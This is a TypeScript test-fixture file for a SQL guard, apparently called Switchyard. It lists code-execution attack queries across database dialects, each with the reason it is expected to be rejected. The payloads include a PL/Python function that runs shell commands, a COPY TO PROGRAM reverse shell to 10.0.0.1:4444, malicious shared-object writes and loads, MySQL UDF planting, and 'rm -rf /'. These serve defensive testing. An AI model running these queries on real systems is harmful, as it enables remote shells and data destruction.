import { acrossDialects, type AttackCase } from './attack-case.js';

/**
 * Class 6: code-execution sinks (CVE-2024-5565 ran LLM-written Python). Switchyard runs no LLM-written
 * code; what an attacker can still try is SQL that reaches the engine's code execution.
 */
export const classSixAttacks: AttackCase[] = [
  ...acrossDialects(6, 'plpython-function', ['postgres'],
    "CREATE FUNCTION run(cmd text) RETURNS text AS $$ import os; return os.popen(cmd).read() $$ LANGUAGE plpython3u", 'not-a-query'),
  ...acrossDialects(6, 'create-extension', ['postgres'], 'CREATE EXTENSION plpython3u', 'not-a-query'),
  ...acrossDialects(6, 'copy-program-shell', ['postgres'], "COPY (SELECT 1) TO PROGRAM 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", 'denied-file-access'),
  ...acrossDialects(6, 'lo-export-shared-object', ['postgres'], "SELECT lo_export(lo_from_bytea(0, 'ELF'), '/tmp/evil.so')", 'denied-file-access'),
  ...acrossDialects(6, 'load-library', ['postgres'], "LOAD '/tmp/evil.so'", 'denied-file-access'),
  ...acrossDialects(6, 'do-block', ['postgres', 'redshift'], "DO $$ BEGIN PERFORM 1; END $$", 'not-a-query'),
  ...acrossDialects(6, 'dumpfile-udf', ['mysql'], "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'", 'denied-file-access'),
  ...acrossDialects(6, 'create-udf', ['mysql'], "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'"),
  ...acrossDialects(6, 'sys-exec', ['mysql', 'postgres'], "SELECT sys_exec('id')", 'denied-function'),
  ...acrossDialects(6, 'load-extension-shell', ['sqlite'], "SELECT load_extension('/tmp/shell.so', 'sqlite3_shell_init')", 'denied-file-access'),
  ...acrossDialects(6, 'fts3-tokenizer', ['sqlite'], "SELECT fts3_tokenizer('simple')", 'denied-function'),
  ...acrossDialects(6, 'install-extension', ['duckdb'], "INSTALL shellfs FROM community"),
  ...acrossDialects(6, 'set-unsigned-extensions', ['duckdb'], 'SET allow_unsigned_extensions = true', 'not-a-query'),
  ...acrossDialects(6, 'snowflake-procedure', ['snowflake'], "CALL SYSTEM$EXECUTE('rm -rf /')"),
  ...acrossDialects(6, 'snowflake-create-function', ['snowflake'],
    "CREATE FUNCTION f() RETURNS STRING LANGUAGE PYTHON RUNTIME_VERSION = '3.10' HANDLER = 'h' AS 'import os'"),
  ...acrossDialects(6, 'trino-inline-function', ['trino'],
    'WITH FUNCTION f(x integer) RETURNS integer RETURN x SELECT f(id) FROM orders'),
  ...acrossDialects(6, 'trino-create-function', ['trino'],
    "CREATE FUNCTION hive.default.f() RETURNS varchar LANGUAGE PYTHON WITH (handler = 'h') AS $$import os$$"),
  ...acrossDialects(6, 'athena-lambda-udf', ['athena'],
    "USING EXTERNAL FUNCTION run(cmd VARCHAR) RETURNS VARCHAR LAMBDA 'attacker-fn' SELECT run('id')"),
];
